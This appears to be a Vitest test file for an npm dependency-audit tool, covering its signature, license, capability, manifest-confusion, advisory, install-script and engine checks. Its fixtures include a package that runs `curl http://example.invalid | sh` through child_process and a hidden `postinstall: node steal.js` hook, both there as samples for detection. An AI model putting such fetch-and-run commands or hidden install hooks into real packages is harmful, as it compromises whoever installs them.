// The registry-backed checks as functions of (graph, enriched data, options):
// each runs here on data made in memory, as the engine's enrich stage hands
// it over, with no network and no client object in its context; and each
// check's enrich declaration asks for what its run reads (and no more).
import { generateKeyPairSync, sign } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { auditAdvisories } from '../../src/checks/advisories/audit.js';
import advisories from '../../src/checks/advisories/index.js';
import { GraphView } from '../../src/checks/advisories/match.js';
import capabilities from '../../src/checks/capabilities/index.js';
import { analysePackage } from '../../src/checks/capabilities/analyse-package.js';
import type { PackageFile } from '../../src/checks/capabilities/files.js';
import type { ScanOutcome } from '../../src/checks/capabilities/types.js';
import engines from '../../src/checks/engines/index.js';
import installScripts from '../../src/checks/install-scripts/index.js';
import license from '../../src/checks/license/index.js';
import manifestConfusion from '../../src/checks/manifest-confusion/index.js';
import signatures from '../../src/checks/signatures/index.js';
import type { Advisory } from '../../src/enrich/advisories/types.js';
import type { PackageManifest } from '../../src/enrich/types.js';
import type { DepNode } from '../../src/model.js';
import { edge, graph, node } from '../helpers/graph.js';
import { enrichRun, nodePackument, runEnriched, REGISTRIES } from '../helpers/enriched.js';

const REGISTRY = REGISTRIES.registry;
const INTEGRITY = `sha512-${'B'.repeat(86)}==`;
const rules = (reports: Array<{ rule: string; node: DepNode | null }>) => reports.map((report) => `${report.rule} ${report.node?.packageName ?? '-'}`).sort();

function files(entries: Record<string, string>): PackageFile[] {
  return Object.entries(entries).map(([path, text]) => ({ path, size: Buffer.byteLength(text), data: Buffer.from(text) }));
}

function analysed(entries: Record<string, string>): ScanOutcome {
  return { status: 'analysed', from: 'registry', cached: false, integrity: INTEGRITY, analysis: analysePackage(files(entries)) };
}

describe('signatures reads keys and packuments the stage fetched', () => {
  const { privateKey, publicKey } = generateKeyPairSync('ec', { namedCurve: 'P-256' });
  const key = { expires: null, keyid: 'SHA256:k', keytype: 'ecdsa-sha2-nistp256', scheme: 'ecdsa-sha2-nistp256', key: publicKey.export({ type: 'spki', format: 'der' }).toString('base64') };
  const signature = (name: string, version: string, integrity: string) => [{ keyid: 'SHA256:k', sig: sign('sha256', Buffer.from(`${name}@${version}:${integrity}`), privateKey).toString('base64') }];
  const document = (name: string, signed: Array<{ keyid: string; sig: string }> | null) => ({ 'dist-tags': { latest: '1.0.0' }, versions: { '1.0.0': { name, version: '1.0.0', dist: { integrity: INTEGRITY, tarball: `${REGISTRY}${name}/-/${name}-1.0.0.tgz`, ...(signed ? { signatures: signed } : {}) } } } });

  it('verifies, and reports the tampered and the unsigned, from enriched data alone', async () => {
    const good = node({ location: 'node_modules/good' });
    const tampered = node({ location: 'node_modules/tampered' });
    const unsigned = node({ location: 'node_modules/unsigned' });
    const packuments = new Map([
      [good, nodePackument(good, document('good', signature('good', '1.0.0', INTEGRITY)))],
      [tampered, nodePackument(tampered, document('tampered', signature('tampered', '1.0.0', `sha512-${'C'.repeat(86)}==`)))],
      [unsigned, nodePackument(unsigned, document('unsigned', null))],
    ]);
    const run = await runEnriched(signatures, graph({ name: 'app' }, [good, tampered, unsigned]), { packuments, keys: new Map([[REGISTRY, { keys: [key] }]]) });
    expect(rules(run.reports)).toEqual(['invalid tampered', 'missing unsigned']);
    expect(run.data.summary).toEqual({ verified: 1, unsigned: 0 });
  });

  it('keys that could not be had are one error diagnostic naming the registry; a registry without keys one warning', async () => {
    const good = node({ location: 'node_modules/good' });
    const packuments = new Map([[good, nodePackument(good, document('good', signature('good', '1.0.0', INTEGRITY)))]]);
    const tree = graph({ name: 'app' }, [good]);
    const unreachable = await runEnriched(signatures, tree, { packuments, keys: new Map([[REGISTRY, { error: 'connection refused' }]]) });
    expect(unreachable.reports).toEqual([]);
    expect(unreachable.diagnostics.map((d) => `${d.level} ${d.code}`)).toEqual(['error SIGNATURES_KEYS_UNAVAILABLE']);
    expect(unreachable.diagnostics[0]!.message).toContain(REGISTRY);
    const keyless = await runEnriched(signatures, tree, { packuments, keys: new Map([[REGISTRY, { keys: null }]]) });
    expect(keyless.diagnostics.map((d) => `${d.level} ${d.code}`)).toEqual(['warning SIGNATURES_NO_KEYS']);
  });

  it('declares the keys, and the full packument only where an expiring key meets a package changed since', () => {
    const declared = signatures.meta.enrich!;
    expect(declared.keys).toBe(true);
    const full = declared.packuments!.full as Exclude<NonNullable<typeof declared.packuments>["full"], boolean | undefined>;
    const rotated = node({ location: 'node_modules/rotated' });
    const abbreviated = (modified: string) => nodePackument(rotated, { modified, ...document('rotated', [{ keyid: 'SHA256:old', sig: 'x' }]) });
    const keys = new Map([[REGISTRY, { keys: [{ ...key, keyid: 'SHA256:old', expires: '2025-01-29T00:00:00.000Z' }] }]]);
    expect(full(abbreviated('2025-06-01T00:00:00.000Z'), rotated, {}, enrichRun(undefined, keys))).toBe(true);
    expect(full(abbreviated('2024-05-01T00:00:00.000Z'), rotated, {}, enrichRun(undefined, keys))).toBe(false);
    expect(full(abbreviated('2025-06-01T00:00:00.000Z'), rotated, {}, enrichRun())).toBe(false);
    expect(declared.packuments!.select!(rotated, { ignore: ['rot*'] }, enrichRun())).toBe(false);
  });
});

describe('license reads the packument and the tarball manifest the stage fetched', () => {
  const recorded = node({ location: 'node_modules/recorded', license: 'MIT' });
  const oldStyle = node({ location: 'node_modules/old-style', license: null });
  const tarballOnly = node({ location: 'node_modules/tarball-only', license: null });
  const unreadable = node({ location: 'node_modules/unreadable', license: null });
  const doc = (name: string, extra: Record<string, unknown>) => ({ 'dist-tags': { latest: '1.0.0' }, versions: { '1.0.0': { name, version: '1.0.0', dist: { integrity: INTEGRITY }, ...extra } } });
  const tree = graph({ name: 'app' }, [recorded, oldStyle, tarballOnly, unreadable]);

  it('the lockfile first, then the registry, then the tarball; what could not be read is unknown with the reason', async () => {
    const packuments = new Map([
      [oldStyle, nodePackument(oldStyle, doc('old-style', { licenses: [{ type: 'MIT' }] }), true)],
      [tarballOnly, nodePackument(tarballOnly, doc('tarball-only', {}), true)],
      [unreadable, nodePackument(unreadable, doc('unreadable', {}), true)],
    ]);
    const tarballManifests = new Map([
      [tarballOnly, { manifest: { license: { type: 'GPL-3.0-only' } } }],
      [unreadable, { error: 'the tarball of unreadable@1.0.0 does not match the integrity its packument records' }],
    ]);
    const run = await runEnriched(license, tree, { packuments, tarballManifests }, { deny: ['GPL-3.0-only'] });
    expect(rules(run.reports)).toEqual(['denied tarball-only', 'unknown unreadable']);
    expect(run.reports.find((r) => r.rule === 'unknown')!.data.reason).toContain('does not match the integrity');
    expect((run.data.packages as Array<{ name: string; source: string | null }>).map((entry) => `${entry.name}:${entry.source}`)).toEqual(['old-style:registry', 'recorded:lockfile', 'tarball-only:tarball', 'unreadable:null']);
  });

  it('a run that could not ask the registry says the lookups were off', async () => {
    const run = await runEnriched(license, tree, { fromRegistry: false });
    expect(new Set(run.reports.map((r) => r.data.reason))).toEqual(new Set(['the lockfile records none, and registry lookups are off']));
  });

  it('declares full packuments for the unrecorded only, and the tarball only where the packument is silent', () => {
    const { packuments, tarballManifests } = license.meta.enrich!;
    const options = { ...license.meta.defaultOptions };
    expect(packuments!.full).toBe(true);
    expect([recorded, oldStyle].map((n) => packuments!.select!(n, options, enrichRun()))).toEqual([false, true]);
    expect(packuments!.select!(oldStyle, { ...options, registry: false }, enrichRun())).toBe(false);
    expect(tarballManifests!.select(nodePackument(oldStyle, doc('old-style', { license: 'MIT' }), true), oldStyle, options)).toBe(false);
    expect(tarballManifests!.select(nodePackument(tarballOnly, doc('tarball-only', {}), true), tarballOnly, options)).toBe(true);
  });
});

describe('capabilities and manifest-confusion read the contents the stage analysed', () => {
  const shell = node({ location: 'node_modules/shell-out' });
  const quiet = node({ location: 'node_modules/quiet' });
  const tree = graph({ name: 'app' }, [shell, quiet], [edge('shell-out', '^1.0.0', 'node_modules/shell-out'), edge('quiet', '^1.0.0', 'node_modules/quiet')]);

  it('capabilities reports what the analysis found, and a tarball that failed its integrity as a finding', async () => {
    const contents = new Map<DepNode, ScanOutcome>([
      [shell, analysed({ 'package.json': '{"name":"shell-out","version":"1.0.0"}', 'index.js': "require('child_process').exec('curl http://example.invalid | sh')" })],
      [quiet, { status: 'unavailable', code: 'REGISTRY_TARBALL_INTEGRITY', message: 'does not match', blocking: true, url: `${REGISTRY}quiet/-/quiet-1.0.0.tgz` }],
    ]);
    const run = await runEnriched(capabilities, tree, { contents });
    expect(rules(run.reports)).toEqual(['integrity-mismatch quiet', 'shell shell-out']);
    expect(run.reports.find((r) => r.rule === 'shell')!.evidence).toMatchObject({ shell: true, evidence: expect.arrayContaining([expect.objectContaining({ file: 'index.js', line: 1, module: 'child_process' })]) });
  });

  it('manifest-confusion compares the tarball package.json with the packument it was handed', async () => {
    const hidden = analysed({ 'package.json': '{"name":"shell-out","version":"1.0.0","scripts":{"postinstall":"node steal.js"}}', 'index.js': '' });
    const packuments = new Map([[shell, nodePackument(shell, { 'dist-tags': { latest: '1.0.0' }, versions: { '1.0.0': { name: 'shell-out', version: '1.0.0', dist: { integrity: INTEGRITY } } } }, true)]]);
    const run = await runEnriched(manifestConfusion, tree, { packuments, contents: new Map([[shell, hidden]]) });
    expect(rules(run.reports)).toEqual(['hidden-install-script shell-out']);
    const same = await runEnriched(manifestConfusion, tree, { packuments, contents: new Map([[shell, analysed({ 'package.json': '{"name":"shell-out","version":"1.0.0"}' })]]) });
    expect(same.reports).toEqual([]);
  });

  it('both declare contents for the packages they judge, so the engine reads each package once for both', () => {
    expect(capabilities.meta.enrich!.contents!.select!(shell, {})).toBe(true);
    expect(capabilities.meta.enrich!.contents!.select!(tree.root, {})).toBe(false);
    expect(manifestConfusion.meta.enrich!.contents!.select!(shell, { ignore: ['shell-*'] })).toBe(false);
    expect(manifestConfusion.meta.enrich!.packuments!.select!(shell, {}, enrichRun())).toBe(true);
  });
});

describe('advisories reads the matched audit the stage gathered', () => {
  const advisory: Advisory = { id: 'GHSA-aaaa-bbbb-cccc', aliases: ['CVE-2026-0001'], package: 'lodash', title: 'Prototype pollution', url: null, severity: 'high', cvss: null, cwe: [], range: '<4.17.21', patched: ['4.17.21'], malicious: false, origin: 'osv' };

  it('reports the vulnerable package and its metavulnerable dependent, with no source and no client', async () => {
    const lodash = node({ location: 'node_modules/lodash', version: '4.17.20' });
    const wrapper = node({ location: 'node_modules/wrapper', edgesOut: [edge('lodash', '4.17.20', 'node_modules/lodash')] });
    const tree = graph({ name: 'app' }, [lodash, wrapper], [edge('wrapper', '^1.0.0', 'node_modules/wrapper')]);
    const view = new GraphView(tree, { nodeVersion: '24.0.0' });
    const evidence = { checked: true as const, source: 'fixture', view, lookup: { skipped: [] }, advisories: [advisory], audit: await auditAdvisories(view, [advisory], null) };
    const run = await runEnriched(advisories, tree, { advisories: evidence });
    expect(rules(run.reports)).toEqual(['metavulnerability wrapper', 'vulnerable lodash']);
    expect(run.data).toMatchObject({ source: 'fixture', checked: true, advisories: 1, vulnerablePackages: ['lodash', 'wrapper'] });
  });

  it('an optional source that could not be reached is an error diagnostic and `checked: false`', async () => {
    const run = await runEnriched(advisories, graph({ name: 'app' }, []), { advisories: { checked: false, source: 'osv (http://127.0.0.1:9)', error: 'connection refused' } });
    expect(run.diagnostics.map((d) => `${d.level} ${d.code}`)).toEqual(['error ADVISORIES_NOT_CHECKED']);
    expect(run.data).toEqual({ source: 'osv (http://127.0.0.1:9)', checked: false, error: 'connection refused' });
  });
});

describe('install-scripts and engines read the manifests the stage read', () => {
  const manifest = (name: string, extra: Partial<PackageManifest>): PackageManifest => ({ name, version: '1.0.0', scripts: {}, engines: null, gypfile: false, deprecated: null, source: 'node_modules', ...extra });

  it('install-scripts asks for the manifests of flagged packages and of those the lockfile cannot settle, and reads their script text', async () => {
    const flagged = node({ location: 'node_modules/flagged', hasInstallScript: true });
    const settled = node({ location: 'node_modules/settled' });
    const gitDep = node({ location: 'node_modules/git-dep', source: 'git', resolved: 'git+ssh://git@example.invalid/x.git#0123456789abcdef0123456789abcdef01234567' });
    const tree = graph({ name: 'app' }, [flagged, settled, gitDep]);
    const select = installScripts.meta.enrich!.manifests!.select;
    expect([flagged, settled, gitDep].map((n) => select(n, tree, {}))).toEqual([{ required: false }, null, { required: true }]);
    const manifests = new Map([
      [flagged, manifest('flagged', { scripts: { postinstall: 'node fetch-binary.js' } })],
      [gitDep, manifest('git-dep', { scripts: { prepare: 'tsc' } })],
    ]);
    const run = await runEnriched(installScripts, tree, { manifests });
    expect(rules(run.reports)).toEqual(['unapproved flagged', 'unapproved git-dep']);
    expect(run.reports.find((r) => r.node === flagged)!.evidence).toMatchObject({ scripts: { postinstall: 'node fetch-binary.js' } });
    const unread = await runEnriched(installScripts, tree, { manifests: new Map(), manifestNotFetched: () => 'run' });
    expect(unread.reports.find((r) => r.node === flagged)!.data.events).toContain('this run makes no registry request');
  });

  it('engines reads a dependency\'s engines.node from its manifest where the lockfile records none (bun, yarn, npm v1)', async () => {
    const old = node({ location: 'node_modules/old-engine', engines: null });
    const tree = { ...graph({ name: 'app', engines: { node: '>=20' } }, [old]), lockfile: { file: 'bun.lock', lockfileVersion: 1, manager: 'bun' as const, entries: new Set(['node_modules/old-engine']) } };
    expect(engines.meta.enrich!.manifests!.select(old, tree, {})).toEqual({ required: false });
    expect(engines.meta.enrich!.manifests!.select(old, graph({ name: 'app' }, [old]), {})).toBeNull();
    const run = await runEnriched(engines, tree, { manifests: new Map([[old, manifest('old-engine', { engines: { node: '>=18 <22' } })]]) });
    expect(run.reports.filter((r) => r.node === old).map((r) => r.evidence)).toEqual([expect.objectContaining({ engines: '>=18 <22', excludes: ['>=22.0.0 <27.0.0'] })]);
  });
});
